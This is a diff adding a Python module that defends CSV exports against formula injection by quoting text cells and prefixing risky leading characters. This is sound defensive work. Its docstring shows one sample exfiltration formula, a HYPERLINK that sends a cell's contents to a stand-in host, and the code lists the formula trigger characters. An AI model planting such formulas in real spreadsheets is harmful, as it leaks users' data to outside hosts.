@@ -1,0 +1,91 @@
+"""CSV cells that cannot attack the spreadsheet that opens them (CSV or formula injection).
+
+The package writes text it does not control into CSV files: a rater's note, a model
+name, a label from a log. A spreadsheet reads a cell that starts with `=`, `+`, `-` or
+`@` as a formula (`=HYPERLINK("http://x/?"&A1, "click")` sends the sheet's data away),
+and a tab or a carriage return in front can smuggle one past a first look. So, as
+OWASP's CSV-injection advice and ASVS 1.2.10 say, every text cell that starts with one
+of those characters (or NUL) is written with a single quote in front, and every text
+cell is quoted (`QUOTING`), so that no separator inside a cell can start a new one in a
+program that guesses another separator.
+
+What is left alone, because it is data and no formula:
+
+- numbers (`int`, `float`, numpy numbers) and the numeric columns of a table: `-0.5`
+  stays `-0.5`, unquoted, and reads back as a number;
+- a text cell that is a plain decimal number and nothing else (`"-3"`, `"+1.5"`,
+  `"-2e-3"`): a spreadsheet computes such a cell to the number it shows, no reference
+  or function fits in it, and a quote in front would turn a number into text. This is
+  our one departure from OWASP's blanket rule, and it is safe by construction (the
+  pattern allows ASCII digits, one sign, one point and an exponent only).
+
+JSONL files are not touched: no program evaluates a JSON string, and they keep the text
+exactly as it was given.
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+from typing import TYPE_CHECKING, Any, Final
+
+if TYPE_CHECKING:  # imported where a table is written: the studio's export needs no pandas
+    import pandas as pd
+
+# The first characters that make a spreadsheet read a cell as a formula (OWASP: = + - @,
+# tab, carriage return; ASVS 1.2.10 adds NUL).
+TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\0")
+PREFIX = "'"
+# Every text cell quoted, numbers bare (csv's and pandas' `quoting`).
+QUOTING: Final = csv.QUOTE_NONNUMERIC
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
+
+
+def safe_text(value: str) -> str:
+    """`value` with a single quote in front if a spreadsheet would read it as a formula."""
+    if value.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
+        return PREFIX + value
+    return value
+
+
+def safe_cell(value: Any) -> Any:
+    """A text cell made safe (`safe_text`); anything else (numbers, None) as it is."""
+    return safe_text(value) if isinstance(value, str) else value
+
+
+def safe_row(row: dict[str, Any]) -> dict[str, Any]:
+    """A `csv.DictWriter` row with every text cell made safe."""
+    return {key: safe_cell(value) for key, value in row.items()}
+
+
+def _safe_index(index: pd.Index) -> pd.Index:
+    import pandas as pd
+
+    if isinstance(index, pd.MultiIndex):
+        levels = [_safe_index(level) for level in index.levels]
+        names = [safe_cell(name) for name in index.names]
+        return index.set_levels(levels).set_names(names)
+    if pd.api.types.is_numeric_dtype(index.dtype) or pd.api.types.is_bool_dtype(index.dtype):
+        return index.rename(safe_cell(index.name))
+    return index.map(safe_cell).rename(safe_cell(index.name))
+
+
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of `frame` whose text cells, header and index labels are made safe; numeric
+    and boolean columns are not looked at, so their dtype and values stay as they are."""
+    import pandas as pd
+
+    safe = frame.copy()
+    for position in range(safe.shape[1]):
+        column = safe.iloc[:, position]
+        if pd.api.types.is_numeric_dtype(column.dtype) or pd.api.types.is_bool_dtype(column.dtype):
+            continue
+        safe.isetitem(position, column.map(safe_cell))
+    safe.columns = _safe_index(safe.columns)
+    safe.index = _safe_index(safe.index)
+    return safe
+
+
+def write_frame_csv(frame: pd.DataFrame, path: Any, *, index: bool) -> None:
+    """`frame.to_csv(path)` with the cells made safe and every text cell quoted."""
+    safe_frame(frame).to_csv(path, index=index, quoting=QUOTING)
